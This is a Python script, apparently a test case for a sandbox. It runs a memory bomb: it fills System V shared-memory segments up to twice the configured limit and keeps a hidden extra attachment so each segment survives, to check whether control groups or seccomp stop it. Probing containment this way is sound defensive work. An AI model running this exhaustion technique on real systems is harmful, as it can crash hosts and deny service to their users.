"""Hoard memory in System V segments that no process maps.

kind: resources
stopped by: control group, seccomp filter
ends: out-of-memory, crashed
control: no, it is a bomb
"""

import ctypes
import time

from attacker import TOLD, call, libc, managed, spare_the_host, tried

spare_the_host()
PIECE, OWN = 2**25, 0o600
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
wanted, held = 2 * TOLD["limits"]["memory"], 0
tried(f"hoard {wanted // 2**20} MiB")
while held < wanted:
    segment = call("shmget", 0, ctypes.c_size_t(PIECE), 0o1000 | OWN)
    place = libc.shmat(segment, None, 0)
    ctypes.memset(place, 1, PIECE)
    libc.shmat(segment, None, 0)  # a second view, never touched, counts for nothing, and keeps the segment alive
    libc.shmdt(place)
    call("shmctl", segment, 0, None)  # it goes when this process goes
    held += PIECE
time.sleep(0.5)
managed(f"hoard {held // 2**20} MiB")
